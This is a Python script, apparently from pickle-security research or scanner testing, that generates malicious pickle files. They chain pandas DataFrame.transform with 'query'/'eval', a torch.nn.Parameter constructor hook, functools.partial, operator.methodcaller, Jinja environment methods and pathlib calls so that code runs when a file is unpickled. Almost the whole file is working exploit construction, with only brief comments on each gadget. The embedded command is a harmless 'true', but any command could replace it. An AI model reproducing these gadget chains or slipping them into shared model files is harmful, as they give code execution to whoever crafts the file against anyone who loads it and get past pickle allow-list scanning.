# A method of pandas that calls others by their names runs any text: transform("query", 0, "@inspect.os..."). Kept
# as an attribute that a constructor calls (torch.nn.Parameter asks for data.detach()), it runs on loading.
from pickle_asm import *

FRAME = stack_global("pandas.core.frame", "DataFrame") + EMPTY_TUPLE + NEWOBJ
EXPRESSION = "@inspect.os.system('true')"


def called(module, name, *arguments):
    return stack_global(module, name) + args(*(raw(argument) for argument in arguments)) + REDUCE


def partial(function, *arguments):
    # The same function twice, as picklers write it.
    state = args(raw(get(3)), raw(args(*arguments)), raw(EMPTY_DICT), None)
    return called("functools", "partial", function + put(3)) + state + BUILD


def attack(name, function, *arguments):
    holder = stack_global("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE
    holder += EMPTY_DICT + text("detach") + partial(function, *arguments) + SETITEM + BUILD
    save(name + ".pkl", proto(4) + called("torch.nn.parameter", "Parameter", holder) + STOP)


def method(name, owner=FRAME):
    return called("builtins", "getattr", owner, text(name))


attack("query", method("transform"), "query", 0, EXPRESSION)
attack("eval", method("transform"), "eval", 0, EXPRESSION)
attack("of_the_class", method("transform", stack_global("pandas", "DataFrame")), raw(FRAME), "query", 0, EXPRESSION)
attack("series", method("transform", stack_global("pandas", "Series") + EMPTY_TUPLE + REDUCE), "pipe", 0)
attack("plot", method("plot"), "backend")
attack("hist", method("hist"), None)
caller = called("operator", "methodcaller", text("transform"), text("query"), number(0), text(EXPRESSION))
attack("methodcaller", caller, raw(FRAME))
for owner, name in ((stack_global("torch.storage", "UntypedStorage"), "from_file"),
                    (stack_global("transformers.models.bert.configuration_bert", "BertConfig"), "from_json_file"),
                    (stack_global("inspect", "Signature"), "from_callable")):
    attack(name, method(name, owner), "x")

# A pipeline calls one function after the other, so plain attributes lead on: from a frame to its style, and to that one's
# environment of Jinja, whose methods read any attribute and run any expression.
for name, arguments in (("compile_expression", [text("''.__class__")]), ("getitem", [stack_global("pandas", "DataFrame"), text("__init__")]),
                        ("getattr", [stack_global("pandas", "DataFrame"), text("__init__")]), ("call_filter", [text("attr"), number(0)])):
    attack("jinja_" + name, called("operator", "methodcaller", text(name), *arguments), FRAME)
for name in ("copy", "walk"):
    attack("path_" + name, method(name, called("pathlib", "PosixPath", text("/"))), text("x"))
